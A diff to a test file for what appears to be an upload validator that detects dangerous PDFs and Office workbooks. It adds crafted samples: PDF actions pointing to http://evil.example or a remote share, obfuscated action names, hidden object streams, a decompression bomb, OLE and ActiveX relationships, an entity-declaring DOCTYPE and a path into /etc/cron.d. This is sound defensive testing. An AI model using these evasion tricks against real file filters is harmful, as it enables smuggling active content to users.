@@ -38,10 +38,67 @@ const activePdfs: [string, string][] = [
   ['a pdf that lists files', '<</EmbeddedFiles<</Names[(a)5 0 R]>>>>'],
   ['a pdf that plays media', '<< /Subtype /RichMedia >>'],
   ['a pdf with a form of its own language', '<< /XFA 7 0 R >>'],
+  ['a pdf that opens another file', String.raw`<< /S /GoToR /F (\\\\evil\\share) /D [0 /Fit] >>`],
+  ['a pdf that opens a file inside another', '<< /S /GoToE /T << /R /C >> >>'],
+  ['a pdf that opens another file by another spelling', '<< /S /#47oTo#52 /F (x) >>'],
+  ['a pdf that sends a form', '<< /S /SubmitForm /F (http://evil.example) >>'],
+  ['a pdf that takes data in', '<< /S /ImportData /F (x) >>'],
+  ['a pdf that plays a script as media', '<< /S /Rendition /OP 0 >>'],
+  ['a pdf that opens an address by itself', '<< /OpenAction << /S /URI /URI (http://evil.example) >> >>'],
+  ['a pdf that prints itself', '<< /Open#41ction<</S/Named/N/Print>> >>'],
+  ['a pdf that leads to a page and then on', '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 9 0 R >> >>'],
+  ['a pdf whose opening is two actions', '<< /OpenAction << /S /GoTo /S /URI /URI (http://evil.example) >> >>'],
+  ['a pdf whose opening stands elsewhere', '70 0 obj\n<< /S /URI >>\nendobj\n<< /OpenAction 70 %x\n 0 R >>'],
+  ['a pdf whose opening was changed', `${quiet(70)}${quiet(70, '/URI')}<< /OpenAction 70 0 R >>`],
+  ['a pdf whose opening is not there', '<< /OpenAction 71 0 R >>'],
+  ['a pdf whose opening cannot be read', `<< /OpenAction ${'<< /A '.repeat(40)}${'>>'.repeat(40)} >>`],
+  ['a page that opens an address when it is shown', '<< /Type /Page /AA << /O << /S /URI /URI (http://evil) >> >> >>'],
+  ['a field that opens an address', `${quiet(70, '/URI')}<< /#41A 72 0 R >>\n72 0 obj<</Fo 70 0 R>>endobj`],
 ];
+
+/** An object that is an action: one that leads to a page of the document, or another. */
+function quiet(object: number, kind = '/GoTo') {
+  return `${object} 0 obj\n<< /S ${kind} /D [3 0 R /XYZ null null 0] >>\nendobj\n`;
+}
+
+/** The relations of a sheet, with one more. */
+function related(attributes: string, before = ''): ZipPart {
+  return {
+    name: 'xl/worksheets/_rels/sheet1.xml.rels',
+    content: `<?xml version="1.0" encoding="UTF-8"?>${before}<Relationships><Relationship Id="rId1" ${attributes}/></Relationships>`,
+  };
+}
+const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const activeWorkbooks: [string, ZipPart][] = [
+  ['an object', related(`Type="${TYPES}/oleObject" Target="../embeddings/oleObject1.bin"`)],
+  ['an object of the strict dialect', related(`Type='http://purl.oclc.org/ooxml/relationships/oleObject'`)],
+  ['an object by another spelling', related(`Type="${TYPES}/&#x6f;le&#79;bject"`)],
+  ['an object behind a false type', related(`Title=" Type='x/hyperlink'" Type="${TYPES}/oleObject"`)],
+  ['an object under a prefix', { name: 'xl/_rels/a.rels', content: `<r:Relationship\nType="${TYPES}/oleObject"/>` }],
+  ['another document', related(`Type="${TYPES}/package" Target="../embeddings/a.docx"`)],
+  ['values of a program (DDE)', related(`Type="${TYPES}/externalLink" Target="externalLinks/externalLink1.xml"`)],
+  ['a connection', related(`Type="${TYPES}/connections" Target="connections.xml"`)],
+  ['a picture from elsewhere', related(`Type="${TYPES}/image" TargetMode="External" Target="file://evil/share"`)],
+  ['a control', related(`Type="${TYPES}/control" Target="../activeX/activeX1.xml"`)],
+  ['relations in another encoding', { name: 'xl/_rels/a.rels', content: Buffer.from('<Relationship/>', 'utf16le') }],
+  ['relations that name an encoding', { name: 'xl/_rels/a.rels', content: '<?xml version="1.0" encoding="UTF-7"?>' }],
+  ['relations with pieces of their own', related(`Type="&ole;"`, '<!DOCTYPE r [<!ENTITY ole "oleObject">]>')],
+];
+
+describe('a workbook with links', () => {
+  it('is accepted, if a person has to follow them', async () => {
+    const link = related(`Type="${TYPES}/hyperlink" TargetMode="External" Target="https://honest.example"`);
+    expect(await tellKind(makeXlsx(link))).toEqual({ kind: 'xlsx' });
+  });
+});
 
 describe('a pdf that mentions dangerous names in its text', () => {
   it.each([
+    ['where it opens at a page', '<< /OpenAction [3 0 R /Fit] >>'],
+    ['where it opens at a page of another object', `${quiet(70)}<< /OpenAction 70 0 R >>`],
+    ['where it opens at a page of a packed object', packed('70 0 << /S /GoTo /D [3 0 R] >>', 5, '/OpenAction 70 0 R')],
+    ['in links that a person follows', '<< /Subtype /Link /A << /S /URI /URI (https://honest.example) >> >>'],
+    ['in the name of a font', `${quiet(70, '/Font')}<< /Font << /AA 70 0 R >> >> [/AA] /AA 12 Tf`],
     ['in words that begin alike', '<< /LaunchDate (today) /JavaScripts 1 >>'],
     ['in packed objects that are plain', packed('<< /Type /Catalog >>')],
     ['in a packed page', `8 0 obj\n<< /Filter /FlateDecode >>\nstream\nno zlib\nendstream`],
@@ -80,6 +137,16 @@ describe('content of another kind', () => {
     ['a pdf with packed scripts', pdfWith(packed('<< /S /JavaScript /JS (app.alert(1)) >>'))],
     ['a pdf whose packed objects are a bomb', pdfWith(packed(' '.repeat(40 * 1024 * 1024)))],
     ['a pdf packed in another way', pdfWith(packed('<< /S /JavaScript >>').toString('latin1').replace('Flate', 'LZW'))],
+    ['a pdf with a packed way out', pdfWith(packed('<< /S /GoToR /F (x) >>'))],
+    [
+      'a pdf with a packed opening',
+      pdfWith(Buffer.concat([packed('70 0 << /S /URI >>', 5), Buffer.from('<< /OpenAction 70 0 R >>')])),
+    ],
+    ['a pdf packed behind a long dictionary', pdfWith(packed('<< /S /Launch >>', 0, `/X (${'x'.repeat(9000)})`))],
+    ['a pdf packed without saying so', pdfWith(unnamed(packed('<< /S /Launch >>')))],
+    ['a pdf packed after a prediction', pdfWith(packed('<< /A 1 >>', 0, '/DecodeParms << /Predictor 12 >>'))],
+    ['a pdf packed under a hidden number', pdfWith(packed('<< /S /Launch >>', 0, '', `90%${'x'.repeat(500)}\n 0 obj`))],
+    ['a pdf whose objects stand in one another', pdfWith('1 0 obj('.repeat(20_000))],
     ['a pdf with a password', pdfWith('<< /Encrypt 9 0 R >>')],
     ['a zip', makeZip([{ name: 'readme.txt', content: 'hello' }])],
     ['a zip of nothing', makeZip([])],
@@ -91,6 +158,7 @@ describe('content of another kind', () => {
     ['a docx', contentTypes('spreadsheetml.sheet', 'wordprocessingml.document')],
     ['an xlsm', contentTypes('openxmlformats-officedocument.spreadsheetml.sheet', 'ms-excel.sheet.macroEnabled')],
     ['an xlsx with macros', makeXlsx({ name: 'xl/vbaProject.bin', content: 'x' })],
+    ...activeWorkbooks.map(([name, part]): [string, Buffer] => [`an xlsx with ${name}`, makeXlsx(part)]),
     ['an xlsx with a password', zip((parts) => (parts[2]!.encrypted = true))],
     ['an xlsx that leaves its folder', makeXlsx({ name: '../../etc/cron.d/x', content: 'x' })],
     ['an xlsx with an absolute name', makeXlsx({ name: 'C:\\windows\\x', content: 'x' })],
@@ -105,6 +173,8 @@ describe('content of another kind', () => {
     ['parts that share their bytes', overlapping()],
     ['a Word document', makeOle(['WordDocument'])],
     ['an Excel file with a password', makeOle(['EncryptedPackage', 'EncryptionInfo'])],
+    ['an xls with an object', makeOle(['Workbook', 'MBD0001F2A3'])],
+    ['an xls with a linked object', makeOle(['Workbook', 'LNK0001F2A3'])],
     ['an xls with macros', makeOle(['Workbook', '_VBA_PROJECT'])],
     ['an xls whose workbook is something else', makeOle(['Workbook'], [0x3c, 0x68])],
     ['an xls that is cut off', makeOle(['Workbook']).subarray(0, 1200)],
@@ -145,10 +215,16 @@ function pdfWith(objects: string | Buffer): Buffer {
   ]);
 }
 
-function packed(objects: string): Buffer {
+/** A stream of packed objects that begin at `first`. */
+function packed(objects: string, first = 0, more = '', start = '90 0 obj'): Buffer {
   const stream = deflateSync(objects);
-  const front = `90 0 obj\n<< /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`;
+  const front = `${start}\n<< ${more} /Type /ObjStm /N 1 /First ${first} /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`;
   return Buffer.concat([Buffer.from(front), stream, Buffer.from('\nendstream\nendobj')]);
+}
+
+/** The same without its type, at which not every reader looks. */
+function unnamed(objects: Buffer): Buffer {
+  return Buffer.from(objects.toString('latin1').replace('/Type /ObjStm', ''), 'latin1');
 }
 
 /** The end mark hides in the comment of the zip, so that both readers are content. */
